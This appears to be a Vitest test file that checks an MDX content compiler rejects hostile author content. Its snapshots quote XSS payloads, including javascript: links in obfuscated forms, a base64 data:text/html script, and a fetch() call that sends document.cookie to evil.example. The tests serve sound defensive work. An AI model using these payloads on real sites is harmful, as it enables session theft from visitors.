// Content must not be able to run code on readers' machines: every hostile fixture in
// tests/fixtures/hostile/ is rejected by the real compile pipeline, and the author is told
// the file, the line and what to write instead.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileMdx } from '../../../src/lib/markdown/compile-mdx';
import { ContentError, formatProblem } from '../../../src/lib/markdown/content-error';
import { REPO_ROOT } from '../../support/paths';

const FOLDER = 'tests/fixtures/hostile';

/** Compiles a fixture and returns each problem as the author sees it: `file:line:column message`. */
function rejectionOf(name: string): string[] {
  const file = `${FOLDER}/${name}.mdx`;
  const source = readFileSync(join(REPO_ROOT, file), 'utf8');
  try {
    compileMdx(source, { file });
  } catch (error) {
    if (error instanceof ContentError) return error.problems.map(formatProblem);
    throw error;
  }
  return [];
}

describe('hostile content is rejected at build', () => {
  it('has a test below for every fixture in the folder', () => {
    const fixtures = readdirSync(join(REPO_ROOT, FOLDER))
      .filter((name) => name.endsWith('.mdx'))
      .map((name) => name.replace(/\.mdx$/, ''))
      .sort();
    expect(fixtures).toEqual([...TESTED].sort());
  });

  it('accepts an ordinary paragraph, so the rejections below are about the hostile part', () => {
    expect(() =>
      compileMdx('An ordinary paragraph written by an author.\n', { file: 'ok.mdx' }),
    ).not.toThrow();
  });

  it('rejects data-image', () => {
    expect(rejectionOf('data-image')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/data-image.mdx:3:1 The image "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects data-link', () => {
    expect(rejectionOf('data-link')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/data-link.mdx:3:1 The link "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects export', () => {
    expect(rejectionOf('export')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/export.mdx:3:1 import and export are not allowed in content: content cannot run code. Delete this line; the site provides the components you may use.",
      ]
    `);
  });

  it('rejects expression-flow', () => {
    expect(rejectionOf('expression-flow')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/expression-flow.mdx:3:1 {fetch('https://evil.example/?c=' + document.cookie)} is code and cannot run in content. To show curly brackets as text, write \\{ and \\}.",
      ]
    `);
  });

  it('rejects expression-inline', () => {
    expect(rejectionOf('expression-inline')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/expression-inline.mdx:3:14 {1 + 1} is code and cannot run in content. To show curly brackets as text, write \\{ and \\}.",
      ]
    `);
  });

  it('rejects expression-prop', () => {
    expect(rejectionOf('expression-prop')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/expression-prop.mdx:3:12 <Addresses> recommendation must be text in quotes: the id of a recommendation, or several ids separated by spaces.",
      ]
    `);
  });

  it('rejects fragment', () => {
    expect(rejectionOf('fragment')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/fragment.mdx:3:1 <> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects html-comment', () => {
    expect(rejectionOf('html-comment')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/html-comment.mdx:3:2 HTML comments (<!-- … -->) cannot be used in content. Delete the comment: notes for editors belong outside the published file.",
      ]
    `);
  });

  it('rejects iframe', () => {
    expect(rejectionOf('iframe')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/iframe.mdx:3:1 <iframe> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects import', () => {
    expect(rejectionOf('import')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/import.mdx:3:1 import and export are not allowed in content: content cannot run code. Delete this line; the site provides the components you may use.",
      ]
    `);
  });

  it('rejects javascript-autolink', () => {
    expect(rejectionOf('javascript-autolink')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-autolink.mdx:3:18 Links in angle brackets (<javascript:alert(1)>) cannot be used in content. Write [the words to click](https://…) instead.",
      ]
    `);
  });

  it('rejects javascript-image', () => {
    expect(rejectionOf('javascript-image')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-image.mdx:3:1 The image "javascript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects javascript-link-entity', () => {
    expect(rejectionOf('javascript-link-entity')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-link-entity.mdx:3:1 The link "javascript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects javascript-link-mixed-case', () => {
    expect(rejectionOf('javascript-link-mixed-case')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-link-mixed-case.mdx:3:1 The link "JaVaScRiPt:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects javascript-link-tab', () => {
    expect(rejectionOf('javascript-link-tab')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-link-tab.mdx:3:1 The link "java\\tscript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects javascript-link', () => {
    expect(rejectionOf('javascript-link')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-link.mdx:3:1 The link "javascript:alert(document.cookie)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects javascript-reference', () => {
    expect(rejectionOf('javascript-reference')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/javascript-reference.mdx:5:1 The link "javascript:alert(1)" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });

  it('rejects onclick-prop', () => {
    expect(rejectionOf('onclick-prop')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/onclick-prop.mdx:3:53 <Addresses> has no prop "onClick"; it takes: recommendation.",
      ]
    `);
  });

  it('rejects onload-img', () => {
    expect(rejectionOf('onload-img')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/onload-img.mdx:3:1 <img> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects raw-anchor', () => {
    expect(rejectionOf('raw-anchor')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/raw-anchor.mdx:3:1 <a> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects remote-image', () => {
    expect(rejectionOf('remote-image')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/remote-image.mdx:3:1 The image "https://evil.example/pixel.png" is on another website, so every reader's browser would contact that site. Link to it instead: [description](https://evil.example/pixel.png), or add the image to this site.",
      ]
    `);
  });

  it('rejects script-src', () => {
    expect(rejectionOf('script-src')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/script-src.mdx:3:1 <script> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects script', () => {
    expect(rejectionOf('script')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/script.mdx:3:1 <script> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects spread-prop', () => {
    expect(rejectionOf('spread-prop')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/spread-prop.mdx:3:12 <Addresses> cannot take {…} props: content cannot run code. Use <Addresses recommendation="ncpi-wiltshire-2022-r01">, then the paragraphs, then </Addresses>, each on its own line with blank lines around the paragraphs.",
        "tests/fixtures/hostile/spread-prop.mdx:3:1 <Addresses> needs recommendation="…": the id of a recommendation, or several ids separated by spaces.",
      ]
    `);
  });

  it('rejects style', () => {
    expect(rejectionOf('style')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/style.mdx:3:22 <style> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects unknown-component', () => {
    expect(rejectionOf('unknown-component')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/unknown-component.mdx:3:1 <Chart> is not allowed in content: HTML and scripts cannot be used. Write Markdown instead (the only component allowed is: Addresses).",
      ]
    `);
  });

  it('rejects vbscript-link', () => {
    expect(rejectionOf('vbscript-link')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/vbscript-link.mdx:3:1 The link "vbscript:msgbox(\\"hello\\")" would run code or open something other than a web page. Link to an https:// address or a page on this site instead.",
      ]
    `);
  });
  it('rejects remote-image-reference', () => {
    expect(rejectionOf('remote-image-reference')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/remote-image-reference.mdx:3:1 The image "//evil.example/pixel.png" is on another website, so every reader's browser would contact that site. Link to it instead: [description](//evil.example/pixel.png), or add the image to this site.",
      ]
    `);
  });

  it('rejects https-autolink', () => {
    expect(rejectionOf('https-autolink')).toMatchInlineSnapshot(`
      [
        "tests/fixtures/hostile/https-autolink.mdx:3:8 Links in angle brackets (<https://www.gov.uk/>) cannot be used in content. Write [the words to click](https://…) instead.",
      ]
    `);
  });
});

const TESTED = [
  'remote-image-reference',
  'https-autolink',
  'data-image',
  'data-link',
  'export',
  'expression-flow',
  'expression-inline',
  'expression-prop',
  'fragment',
  'html-comment',
  'iframe',
  'import',
  'javascript-autolink',
  'javascript-image',
  'javascript-link-entity',
  'javascript-link-mixed-case',
  'javascript-link-tab',
  'javascript-link',
  'javascript-reference',
  'onclick-prop',
  'onload-img',
  'raw-anchor',
  'remote-image',
  'script-src',
  'script',
  'spread-prop',
  'style',
  'unknown-component',
  'vbscript-link',
] as const;
